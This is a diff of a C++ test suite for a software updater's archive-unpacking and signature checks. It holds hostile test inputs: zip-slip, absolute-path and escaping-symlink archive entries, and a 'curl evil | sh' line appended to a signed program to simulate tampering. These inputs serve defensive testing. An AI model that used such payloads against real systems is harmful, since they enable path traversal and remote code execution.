@@ -1,218 +1,137 @@
 // The whole chain on real archives: signed bundles zipped as a release would be, and
-// archives built entry by entry to be hostile. The first failing check decides the message.
+// hostile archives. The first failing check decides the message.
 #include "update/Unpack.h"
 
 #include <dirent.h>
 #include <glib.h>
-#include <gtest/gtest.h>
-#include <sys/stat.h>
-#include <unistd.h>
 
-#include <filesystem>
-#include <fstream>
 #include <regex>
 
+#include "BundleKit.h"
 #include "update/Digest.h"
 #include "update/Signature.h"
 
 using namespace mirovan;
-namespace fs = std::filesystem;
-
-// From ExtractTest.cpp: a ZIP written entry by entry with libarchive.
-struct ZipEntry {
-    std::string name;
-    unsigned mode;
-    std::string data;
-};
-void writeZip(const std::string& path, const std::vector<ZipEntry>& entries);
+using namespace kit;
 
 namespace {
 
 const std::string kDamaged = "The download was damaged.";
 const std::string kNotUnpacked = "Couldn't unpack it.";
-const std::string kOtherDeveloper =
-    "The new version isn't signed by the same developer, so it wasn't installed.";
-const std::string kWrongVersion =
-    "The download isn't the version it said it was, so it wasn't installed.";
+const std::string kOtherDeveloper = "The new version isn't signed by the same developer, so it wasn't installed.";
+const std::string kWrongVersion = "The download isn't the version it said it was, so it wasn't installed.";
 
 class Unpack : public ::testing::Test {
 protected:
-    static inline fs::path base;
-    static inline std::string ourTeam;
-
-    static void SetUpTestSuite() {
-        base = fs::temp_directory_path() / ("mirovan-unpack-" + std::to_string(getpid()));
-        fs::create_directories(base);
-        ourTeam = makeKey((base / "key").string()).value_or("");
-        makeKey((base / "other-key").string());
-    }
-    static void TearDownTestSuite() { fs::remove_all(base); }
-
-    fs::path source = base / "source";  // what goes into the archive
-    fs::path work = base / "cache/org.mirovan.Test/update";
-    std::string archive = (base / "update.zip").string();
+    fs::path base = scratch("unpack"), source = base / "source", work = base / "cache/org.mirovan.Test/update";
+    std::string archive = (base / "update.zip").string(), ourTeam = makeKey((base / "key").string()).value_or("");
     RunningApp running{"org.mirovan.Test", ourTeam, 41, work.string()};
 
-    void SetUp() override { ASSERT_FALSE(ourTeam.empty()); }
-    void TearDown() override {
-        fs::remove_all(source);
-        fs::remove_all(base / "cache");
-        fs::remove(archive);
-    }
+    void SetUp() override { ASSERT_TRUE(makeKey((base / "other-key").string())); }
+    void TearDown() override { fs::remove_all(base); }
 
-    // source/<name>: a small bundle whose CFBundleVersion is `version` (plist XML), signed
-    // with `key` unless that is empty.
-    fs::path bundle(const std::string& name, const std::string& version = "<string>42</string>",
-                    const std::string& identifier = "org.mirovan.Test", const std::string& key = "key") {
+    // source/<name>, declaring `version` (plist XML), signed with `key` unless it is empty.
+    void bundle(const std::string& name, const std::string& identifier = "org.mirovan.Test",
+                const std::string& key = "key", const std::string& version = "<string>42</string>") {
         fs::path app = source / name;
-        fs::create_directories(app / "Contents/Linux");
-        fs::create_directories(app / "Contents/Resources");
-        std::ofstream(app / "Contents/Info.plist")
-            << "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>"
-               "<key>CFBundleIdentifier</key><string>" << identifier << "</string>"
-               "<key>CFBundleExecutable</key><string>prog</string>"
-               "<key>CFBundleVersion</key>" << version << "</dict></plist>\n";
-        std::ofstream(app / "Contents/Linux/prog") << "#!/bin/sh\n";
+        put(app / "Contents/Info.plist", infoPlist(identifier, "<key>CFBundleVersion</key>" + version));
+        put(app / "Contents/Linux/prog", "#!/bin/sh\n");
         fs::permissions(app / "Contents/Linux/prog", fs::perms(0755));
-        fs::create_symlink("../Linux/prog", app / "Contents/Resources/prog");
+        fs::create_directory_symlink("Linux", app / "Contents/Current");  // links as zip -y stores them
+        fs::create_symlink("Current/prog", app / "Contents/prog");
         if (!key.empty()) {
             EXPECT_EQ(signBundle(app.string(), (base / key).string()), std::nullopt);
         }
-        return app;
     }
-
-    // Everything in source/, zipped as a release is: `zip -ry` from inside the folder.
-    std::string zipSource() {
-        fs::remove(archive);
-        std::string command = "cd '" + source.string() + "' && zip -qry '" + archive + "' .";
-        EXPECT_EQ(std::system(command.c_str()), 0);
-        return archive;
+    void release(const std::string& name, const std::string& identifier = "org.mirovan.Test",
+                 const std::string& key = "key", const std::string& version = "<string>42</string>") {
+        fs::remove_all(source);
+        bundle(name, identifier, key, version);
+        zipFolder(source, ".", archive);
     }
-
     Unpacked run(std::int64_t version = 42) {
         return unpack(archive, sha256OfFile(archive).value_or(""), version, running);
     }
-    // A release of one bundle, made afresh.
-    void release(const std::string& name, const std::string& version = "<string>42</string>",
-                 const std::string& identifier = "org.mirovan.Test", const std::string& key = "key") {
-        fs::remove_all(source);
-        bundle(name, version, identifier, key);
-        zipSource();
-    }
-
-    void leaveLeftovers() {
-        fs::create_directories(work / "old-uuid/Old.app");
-        std::ofstream(work / "stray") << "left by an earlier run";
-    }
-    std::vector<std::string> inWork() const {
-        std::vector<std::string> names;
-        for (const auto& item : fs::directory_iterator(work)) names.push_back(item.path().filename());
-        return names;
-    }
 };
 
-void expectRefused(const Unpacked& result, const std::string& message, const char* what = "") {
-    EXPECT_EQ(result.app, std::nullopt) << what;
-    EXPECT_EQ(result.message, message) << what;
+void expectRefused(const Unpacked& result, const std::string& message) {
+    EXPECT_EQ(result.app, std::nullopt);
+    EXPECT_EQ(result.message, message);
 }
 
 }  // namespace
 
 TEST_F(Unpack, AcceptsTheSignedBundleOfTheAnnouncedBuild) {
     release("Renamed.app");  // the name inside the archive does not matter
-    leaveLeftovers();
+    put(work / "old-uuid/Old.app/x", "left by an earlier run");
     Unpacked result = run();
     ASSERT_EQ(result.message, std::nullopt);
-    ASSERT_TRUE(result.app);
-    fs::path app(*result.app);
+    fs::path app(result.app.value_or(""));
     EXPECT_EQ(app.filename(), "Renamed.app");
     EXPECT_EQ(app.parent_path().parent_path(), work);
     EXPECT_TRUE(std::regex_match(app.parent_path().filename().string(),
                                  std::regex("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")));
-    EXPECT_EQ(inWork(), std::vector<std::string>{app.parent_path().filename()});  // leftovers gone
-    EXPECT_EQ(fs::status(app / "Contents/Linux/prog").permissions(), fs::perms(0755));
-    EXPECT_EQ(fs::read_symlink(app / "Contents/Resources/prog"), "../Linux/prog");
-    EXPECT_EQ(team(app.string()), ourTeam);
+    EXPECT_FALSE(fs::exists(work / "old-uuid"));
+    EXPECT_EQ(team(app.string()), ourTeam);  // every mode, link and byte as signed
 }
 
 TEST_F(Unpack, DigestMustMatchExactlyAndAMismatchLeavesWorkAlone) {
     release("New.app");
-    leaveLeftovers();
-    std::string digest = sha256OfFile(archive).value();
-    std::string upper = digest;
+    put(work / "stray", "left by an earlier run");
+    std::string digest = sha256OfFile(archive).value(), upper = digest;
     for (char& c : upper) c = g_ascii_toupper(c);
     for (const std::string& given : {upper, digest + " ", " " + digest, digest.substr(1), std::string()}) {
-        expectRefused(unpack(archive, given, 42, running), kDamaged, given.c_str());
+        SCOPED_TRACE(given);
+        expectRefused(unpack(archive, given, 42, running), kDamaged);
     }
     expectRefused(unpack((base / "missing.zip").string(), digest, 42, running), kDamaged);
-    expectRefused(unpack(base.string(), digest, 42, running), kDamaged);  // a folder, not a file
-    EXPECT_EQ(inWork().size(), 2u);
-
-    // A server's error page arrives instead of the archive.
-    std::ofstream(archive, std::ios::trunc) << "<!DOCTYPE html><title>404 Not Found</title>";
+    expectRefused(unpack(base.string(), digest, 42, running), kDamaged);  // a folder
+    put(archive, "<!DOCTYPE html><title>404 Not Found</title>");
     expectRefused(unpack(archive, digest, 42, running), kDamaged);
-    EXPECT_EQ(inWork().size(), 2u);
+    EXPECT_TRUE(fs::exists(work / "stray"));
     // With the page's own digest it gets as far as unpacking, which clears work first.
     expectRefused(run(), kNotUnpacked);
-    EXPECT_EQ(inWork().size(), 1u);
-}
+    EXPECT_FALSE(fs::exists(work / "stray"));
 
-TEST_F(Unpack, UnpackFolderThatCannotBeMadeGivesTheSystemsReason) {
     release("New.app");
-    fs::create_directories(work.parent_path().parent_path());
-    std::ofstream(work.parent_path()) << "a file where a folder should be";
+    fs::remove_all(work.parent_path());
+    put(work.parent_path(), "a file where the work folder's parent should be");
     expectRefused(run(), g_strerror(ENOTDIR));
 }
 
 TEST_F(Unpack, NoUsableBundleAtTheTopLevel) {
-    release("Folder/New.app");  // nested: not found
-    expectRefused(run(), kNotUnpacked, "nested");
+    release("Folder/New.app");
+    expectRefused(run(), kNotUnpacked);
     release("New.APP");  // the extension is compared as written
-    expectRefused(run(), kNotUnpacked, "capitals");
+    expectRefused(run(), kNotUnpacked);
+    writeZip(archive, {{"New.app/Contents/Info.plist", S_IFREG | 0644, "<plist/>"},
+                       {"../../escaped", S_IFREG | 0644, "x"}});
+    expectRefused(run(), kNotUnpacked);
+    EXPECT_FALSE(fs::exists(work.parent_path() / "escaped"));
 
-    std::ofstream(archive, std::ios::trunc) << std::string(5000, 'P');
-    expectRefused(run(), kNotUnpacked, "not a ZIP");
-
-    const ZipEntry app{"New.app/Contents/Info.plist", S_IFREG | 0644, "<plist/>"};
-    const std::vector<std::pair<const char*, std::vector<ZipEntry>>> hostile = {
-        {"zip slip", {app, {"../../escaped", S_IFREG | 0644, "x"}}},
-        {"absolute", {app, {(base / "escaped").string(), S_IFREG | 0644, "x"}}},
-        {"escaping link", {app, {"New.app/Contents/Resources", S_IFLNK | 0777, "../../../.."}}},
-    };
-    for (const auto& [what, entries] : hostile) {
-        writeZip(archive, entries);
-        expectRefused(run(), kNotUnpacked, what);
-        for (const auto& item : fs::recursive_directory_iterator(base))
-            EXPECT_NE(item.path().filename(), "escaped") << what;
-    }
-
-    // A plain file named like a bundle is the candidate, and fails as one.
-    fs::remove_all(source);
-    fs::create_directories(source);
-    std::ofstream(source / "x.app") << "not a bundle";
-    zipSource();
-    expectRefused(run(), kOtherDeveloper, "file");
+    fs::remove_all(source);  // a plain file named like a bundle is the candidate, and fails as one
+    put(source / "x.app", "not a bundle");
+    zipFolder(source, ".", archive);
+    expectRefused(run(), kOtherDeveloper);
 }
 
 TEST_F(Unpack, OnlyTheFirstBundleInListingOrderIsExamined) {
-    // The same two names twice, good and bad swapped: whichever the folder lists first
-    // decides, so exactly one of the two archives is accepted.
+    // Good and bad swapped between two archives: whichever the folder lists first decides,
+    // so exactly one of the two is accepted.
     int accepted = 0;
     for (bool goodFirst : {true, false}) {
-        bundle("P.app", "<string>42</string>", "org.mirovan.Test", goodFirst ? "key" : "other-key");
-        bundle("Q.app", "<string>42</string>", "org.mirovan.Test", goodFirst ? "other-key" : "key");
-        zipSource();
-        Unpacked result = run();
         fs::remove_all(source);
-
+        bundle("P.app", "org.mirovan.Test", goodFirst ? "key" : "other-key");
+        bundle("Q.app", "org.mirovan.Test", goodFirst ? "other-key" : "key");
+        zipFolder(source, ".", archive);
+        Unpacked result = run();
         fs::path folder = *fs::directory_iterator(work);
         DIR* listing = opendir(folder.c_str());
         std::string first;
         while (const dirent* entry = readdir(listing))
             if (first.empty() && entry->d_name[0] != '.') first = entry->d_name;
         closedir(listing);
-        bool good = (first == "P.app") == goodFirst;
-        if (good) {
+        if ((first == "P.app") == goodFirst) {
             ++accepted;
             EXPECT_EQ(result.app, (folder / first).string());
         } else {
@@ -223,32 +142,31 @@ TEST_F(Unpack, OnlyTheFirstBundleInListingOrderIsExamined) {
 }
 
 TEST_F(Unpack, BundleMustComeFromTheSameDeveloper) {
-    release("New.app", "<string>42</string>", "org.other.App");  // signed with our key, even
-    expectRefused(run(), kOtherDeveloper, "identifier");
-    release("New.app", "<string>42</string>", "org.mirovan.Test", "");
-    expectRefused(run(), kOtherDeveloper, "unsigned");
-    release("New.app", "<string>42</string>", "org.mirovan.Test", "other-key");
-    expectRefused(run(), kOtherDeveloper, "other key");
-
+    release("New.app", "org.other.App");  // signed with our key, even
+    expectRefused(run(), kOtherDeveloper);
+    release("New.app", "org.mirovan.Test", "");
+    expectRefused(run(), kOtherDeveloper);
+    release("New.app", "org.mirovan.Test", "other-key");
+    expectRefused(run(), kOtherDeveloper);
     release("New.app");
     std::ofstream(source / "New.app/Contents/Linux/prog", std::ios::app) << "curl evil | sh\n";
-    zipSource();
-    expectRefused(run(), kOtherDeveloper, "changed after signing");
-
+    zipFolder(source, ".", archive);
+    expectRefused(run(), kOtherDeveloper);
     release("New.app");
-    running.team.reset();  // the running build is unsigned: it takes no update at all
-    expectRefused(run(), kOtherDeveloper, "running without team");
+    running.team.reset();  // an unsigned running build takes no update at all
+    expectRefused(run(), kOtherDeveloper);
 }
 
 TEST_F(Unpack, BundleMustDeclareTheAnnouncedBuildAboveTheRunningOne) {
-    for (const char* version : {"<string>42.1</string>", "<string> 42</string>",
-                                "<integer>42</integer>", "<string>43</string>", "<string></string>"}) {
-        release("New.app", version);
-        expectRefused(run(42), kWrongVersion, version);
+    for (const char* version : {"<string>42.1</string>", "<string> 42</string>", "<integer>42</integer>",
+                                "<string>43</string>", "<string></string>"}) {
+        SCOPED_TRACE(version);
+        release("New.app", "org.mirovan.Test", "key", version);
+        expectRefused(run(42), kWrongVersion);
     }
-    release("New.app", "<string>+42</string>");
+    release("New.app", "org.mirovan.Test", "key", "<string>+42</string>");
     EXPECT_TRUE(run(42).app);
-    expectRefused(run(43), kWrongVersion, "feed announced another build");
-    running.current = 42;  // announced and declared agree, but it is not newer
-    expectRefused(run(42), kWrongVersion, "equal to current");
+    expectRefused(run(43), kWrongVersion);  // the feed announced another build
+    running.current = 42;                   // agreed, but not newer
+    expectRefused(run(42), kWrongVersion);
 }
